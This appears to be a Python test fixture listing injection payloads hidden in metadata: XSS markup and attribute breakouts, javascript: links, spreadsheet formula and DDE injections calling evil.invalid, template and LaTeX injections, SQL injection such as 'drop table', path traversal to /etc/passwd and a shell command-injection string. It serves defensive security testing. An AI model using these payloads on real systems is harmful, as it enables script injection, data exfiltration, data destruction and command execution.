"""Metadata that means harm: texts that would run, load, compute, hide or break out where somebody takes them for code.

Whatever runs sets ``window.__hit`` or asks for something of ``evil.invalid``: a browser test watches both.
"""

from __future__ import annotations

HIT = "window.__hit=1"
AWAY = "https://evil.invalid"

MARKUP = [
    f"<script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT >",
    f"</script><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"--><script>{HIT}</script>",
    f"]]><script>{HIT}</script>",
    f"<script src={AWAY}/a.js></script>",
    f"<img src=x onerror={HIT}>",
    f'<img src=x onerror="{HIT}">',
    f"<img/src=`x`onerror={HIT}>",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"<img src={AWAY}/pixel.png>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<body onload={HIT}>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    f"<object data=javascript:{HIT}>",
    f"<embed src={AWAY}/x.swf>",
    f"<link rel=stylesheet href={AWAY}/x.css>",
    f"<style>@import '{AWAY}/x.css';*{{background:url({AWAY}/y)}}</style>",
    f"<base href={AWAY}/>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<form action={AWAY}><input autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>",
    f"<a href=javascript:{HIT}>look</a>",
    f"<a href={AWAY} target=_blank>look</a>",
    f"<template shadowrootmode=open><img src=x onerror={HIT}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;img src=x onerror={HIT}&#62;",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"＜script＞{HIT}＜/script＞",
]
ATTRIBUTES = [
    f'" onmouseover="{HIT}" x="',
    f"' onfocus='{HIT}' autofocus tabindex='1",
    f"x onclick={HIT}",
    f'" style="background:url({AWAY}/s)',
    f"expression({HIT})",
    f"url({AWAY}/css)",
    f"`-{HIT}-`",
    f"';{HIT};//",
    f'";{HIT};//',
    f'\\";{HIT};//',
    f"${{{HIT}}}",
    f"\u2028{HIT}\u2029",
]
LINKS = [
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f"java\tscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    AWAY,
    "//evil.invalid/x",
    "\\\\evil.invalid\\share",
    "file:///etc/passwd",
    "mailto:a@evil.invalid",
]
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    f'=HYPERLINK("{AWAY}","look")',
    f'=WEBSERVICE("{AWAY}/"&A1)',
    f'=IMPORTXML("{AWAY}","//a")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "{=1+1}",
    'DDE("cmd";"/C calc";"x")',
]
CHARACTERS = [
    "a\x00b",
    "a\x07b\x08c",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "a\x7fb\x85c\x9bd",
    "line\r\nfeed\nhere",
    "\u202egpj.exe",
    "photo\u202egnp.js",
    "\u202d left \u202c",
    "\u2066a\u2069\u2067b\u2069\u2068c",
    "ze\u200bro\u2060wi\ufeffdth",
    "so\u00adft",
    "\u200e\u200f\u061c",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ealgo" + "\u0336" * 40,
    "\ufffe\uffff",
    "\U000e0041\U000e0042",
    "\U0010fffd",
    "\u0635\u0644\u0649 \u0627\u0644\u0644\u0647",
    "x" * 3_000,
    "\ufdfd" * 50,
]
TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('" + HIT + "')()}}",
    "{%raw%}{{x}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{0.__class__.__init__.__globals__}",
    "{x!r:>10}",
    "%s%n%x%d",
    "$(touch /tmp/hit)`id`;id|id&&id",
    "__proto__",
    "constructor",
    "%{x}<br>%{customdata}",
]
WRITING = [
    f"[look](javascript:{HIT})",
    f"![]({AWAY}/md.png)",
    f"<{AWAY}>",
    f"# head\n* item\n```\n<script>{HIT}</script>\n```",
    "| a | b |\n|---|---|",
    "$\\href{javascript:" + HIT + "}{x}$",
    "\\input{/etc/passwd}\\write18{id}",
    "$$\\unicode{x}$$ \\(x\\)",
    '#import "/etc/passwd": * #eval("1") #link("' + AWAY + '")[x] @ref <label>',
    "*bold* _it_ `code` ~~s~~",
]
QUERIES = [
    "'; drop table image_facts; --",
    '" or 1=1 --',
    "' union select * from ledger_events --",
    "1; attach 'x.db'; copy (select 1) to '/tmp/hit'",
    "$1 ? :name $name",
    "%_\\%",
    "../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "C:\\x:y",
    "CON",
    "~root/.ssh",
    ".",
    "null",
    "NaN",
    "-0",
    "1e309",
    "",
]

PAYLOADS = [
    text for text in MARKUP + ATTRIBUTES + LINKS + FORMULAS + CHARACTERS + TEMPLATES + WRITING + QUERIES if text
]


def file_name(text: str) -> str:
    """Return a payload as the name of a file on any Linux: what a path can't hold is left out."""
    kept = text.replace("/", "\u2215").replace("\0", "")
    return kept.encode()[:180].decode(errors="ignore") or "empty"
